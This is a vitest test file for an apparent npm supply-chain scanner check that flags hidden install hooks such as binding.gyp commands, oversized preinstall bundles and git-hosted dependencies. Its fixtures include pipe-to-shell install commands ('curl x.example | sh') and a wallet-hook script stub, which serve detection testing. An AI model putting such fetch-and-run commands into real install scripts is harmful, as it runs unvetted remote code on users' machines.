import { describe, expect, it } from 'vitest';
import type { Check } from '../../src/checks/define.ts';
import hiddenInstallHook from '../../src/checks/hidden-install-hook.ts';
import { aContent, type CodeGiven, script } from '../content/rows/given.ts';
import {
  aDocument,
  aPackage,
  type Circumstances,
  findingOf as findingOfAny,
  type Given,
  offline,
  outcomeOf as outcomeOfAny,
} from './given.ts';

const nothingBefore = { previousContent: { releases: [] } };
const findingOf = (check: Check, facts: Given, around?: Circumstances) =>
  findingOfAny(check, { ...nothingBefore, ...facts }, around);
const outcomeOf = (check: Check, facts: Given, around?: Circumstances) =>
  outcomeOfAny(check, { ...nothingBefore, ...facts }, around);

const given = (code: CodeGiven) => {
  const { scripts = {} } = code;
  return { tarball: aContent(code), versionDocument: aDocument({ scripts }) };
};

describe('hidden-install-hook flags', () => {
  it('a build file that only runs something', () => {
    const command = 'node index.js > /dev/null 2>&1 && echo stub.c';
    const finding = findingOf(
      hiddenInstallHook,
      given({
        others: { 'binding.gyp': 157, 'index.js': 4_000 },
        gyp: { commands: [{ path: 'binding.gyp', line: 4, command }], hasSources: false },
      }),
    );
    expect(finding).toMatchObject({ severity: 'critical', data: { rows: [{ id: 'M4', tier: 'block' }] } });
    expect(finding.message).toContain('has a binding.gyp, and npm configures it at install');
    expect(finding.excerpt).toEqual([`binding.gyp:4: ${command}`]);
  });

  it('a script that starts what is no script', () => {
    const code: CodeGiven = {
      scripts: { preinstall: 'node bundle.js' },
      others: { 'bundle.js': 3_000_000 },
      install: ['bundle.js'],
    };
    const finding = findingOf(hiddenInstallHook, given(code));
    expect(finding.severity).toBe('critical');
    expect(finding.message).toBe(
      'runs bundle.js while it is installed, which has 3000 kB, far more than an install script needs',
    );
  });

  it('a command that is none of an honest hook', () => {
    const finding = findingOf(hiddenInstallHook, given({ scripts: { install: 'curl x.example | sh' } }));
    expect(finding.message).toMatch(/^its install script does what no install needs \(.*\): curl x.example/);
  });

  it('a dependency past every registry, which alone is asked about', () => {
    const dependencies = {
      dependencies: new Map([['kettle', 'github:ada/kettle']]),
      ...{ optionalDependencies: new Map(), peerDependencies: new Map() },
    };
    const finding = findingOf(hiddenInstallHook, given({ manifest: { dependencies } }));
    expect(finding).toMatchObject({
      severity: 'high',
      message: 'its dependencies take kettle from outside of every registry: github:ada/kettle',
    });
    const withCode = { manifest: { dependencies }, files: { 'a.js': script('wallet-hook') } };
    expect(findingOf(hiddenInstallHook, given(withCode)).severity).toBe('critical');
  });

  it('what only the registry tells, since npm runs that on a first install', () => {
    const facts = {
      tarball: aContent(),
      versionDocument: aDocument({ scripts: { install: 'curl x | sh' } }),
    };
    expect(findingOf(hiddenInstallHook, facts).severity).toBe('critical');
  });

  it('no plain preinstall more than by a note', () => {
    expect(findingOf(hiddenInstallHook, given({ scripts: { preinstall: 'node a.js' } })).severity).toBe(
      'low',
    );
  });
});

describe('hidden-install-hook passes', () => {
  it('plain scripts, and what belongs to other checks', () => {
    const plain = { scripts: { postinstall: 'node install.js' }, others: { 'install.js': 900 } };
    expect(outcomeOf(hiddenInstallHook, given(plain)).kind).toBe('clean');
    expect(outcomeOf(hiddenInstallHook, given({ files: { 'a.js': script('sink') } })).kind).toBe('clean');
    expect(outcomeOf(hiddenInstallHook, given({ manifest: { name: 'kettle' } })).kind).toBe('clean');
  });

  it('folders of the project itself', () => {
    const pkg = aPackage({ origin: { kind: 'workspace', path: 'x' } });
    expect(outcomeOf(hiddenInstallHook, {}, { pkg }).kind).toBe('not-applicable');
  });
});

describe('hidden-install-hook does not know', () => {
  it('without the tarball, and that counts', () => {
    const outcome = outcomeOf(hiddenInstallHook, { tarball: offline, versionDocument: aDocument() });
    expect(outcome).toMatchObject({ kind: 'unknown', essential: true });
  });
});
